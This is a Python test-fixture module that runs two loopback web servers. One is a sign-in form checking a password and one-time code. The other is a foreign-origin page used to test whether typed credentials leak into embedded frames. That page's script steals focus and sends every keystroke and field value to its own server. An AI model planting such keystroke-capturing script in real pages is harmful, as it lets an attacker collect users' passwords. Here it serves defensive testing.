"""A loopback site with a sign-in form that checks a password and a one-time
code (RFC 6238) against its own clock, for the credential tests; and another
origin that tells what reaches it, for the frames a form may embed."""

from __future__ import annotations

import secrets
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

import pyotp

FORM = """<title>Sign in</title>
<form method="post" action="/sign-in">
  <input id="user" name="user" autocomplete="username">
  <input id="pass" name="pass" type="password">
  <input id="otp" name="otp" autocomplete="one-time-code">
  <button id="go" type="submit">Sign in</button>
</form>{error}"""


# The same form on a page that stays: its script posts it and shows the answer.
SCRIPTED = """<title>Sign in</title>
<form id="form">
  <input id="user" name="user"><input id="pass" name="pass" type="password"><input id="otp" name="otp">
  <button id="go" type="submit">Sign in</button>
</form><p id="said"></p>
<script>
document.getElementById("form").addEventListener("submit", async (event) => {
  event.preventDefault();
  const answer = await fetch("/sign-in", {method: "POST", body: new URLSearchParams(new FormData(event.target))});
  document.getElementById("said").textContent = answer.status;
});
</script>"""


class SignInSite:
    """Serves `/sign-in` (the form; a POST checks it), `/scripted` (the form
    posted by a script, on a page that stays), `/welcome`, and the pages a
    test puts in `pages` (path: HTML)."""

    def __init__(self, username: str, password: str, totp_secret: str) -> None:
        self.expected = (username, password, totp_secret)
        self.signed_in = 0  # sign-ins it took
        self.refused = 0
        self.pages: dict[str, str] = {}
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                if self.path in site.pages:
                    return self._send(200, site.pages[self.path])
                if self.path == "/welcome":
                    return self._send(200, "<title>Welcome</title><p id=welcome>signed in</p>")
                if self.path == "/scripted":
                    return self._send(200, SCRIPTED)
                return self._send(200, FORM.format(error=""))

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length", "0"))).decode()
                form = {name: values[0] for name, values in parse_qs(body).items()}
                user, password, secret = site.expected
                right = (
                    form.get("user") == user
                    and secrets.compare_digest(form.get("pass", "").encode(), password.encode())
                    and pyotp.TOTP(secret).verify(form.get("otp", ""), valid_window=1)
                )
                if right:
                    site.signed_in += 1
                    self.send_response(303)
                    self.send_header("Location", "/welcome")
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return None
                site.refused += 1
                return self._send(403, FORM.format(error="<p id=error>wrong password or code</p>"))

            def _send(self, status: int, html: str) -> None:
                data = html.encode()
                self.send_response(status)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    def __enter__(self) -> SignInSite:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


# Another origin's page with a field that takes the focus whenever its window
# gets it, as a page that wants a password would, and sends every value typed
# into it home; asked by a message, it sends what the field holds, and where.
TELLING = """<title>Elsewhere</title><input id=field autofocus>
<script>
const field = document.getElementById("field");
addEventListener("focus", () => field.focus());
field.addEventListener("input", () => fetch("/typed?v=" + encodeURIComponent(field.value)));
addEventListener("message", () => fetch(`/report?at=${location.pathname}&v=` + encodeURIComponent(field.value)));
</script>"""


class TellingSite:
    """Another origin (`host` on a port of its own) serving TELLING at every
    path: `requests` is every path it was asked for, with its query, so a
    test can say whether anything typed reached it. A path in `held` is
    answered once `release` is set: a navigation to it stays under way."""

    def __init__(self, host: str = "127.0.0.1") -> None:
        self.host = host
        self.requests: list[str] = []
        self.held: set[str] = set()
        self.release = threading.Event()
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                site.requests.append(self.path)
                if urlsplit(self.path).path in site.held:
                    site.release.wait(60)
                data = TELLING.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def url(self) -> str:
        return f"http://{self.host}:{self.server.server_address[1]}"

    def said(self, path: str) -> list[dict[str, str]]:
        """What the pages sent home at `path` (`/typed`, `/report`), in order:
        `v`, the field's value, and for a report `at`, the page's path."""
        asked = [urlsplit(seen) for seen in list(self.requests)]
        return [
            {name: values[0] for name, values in parse_qs(parts.query, keep_blank_values=True).items()}
            for parts in asked
            if parts.path == path
        ]

    def __enter__(self) -> TellingSite:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.release.set()  # a held answer ends before the server does
        self.server.shutdown()
        self.server.server_close()
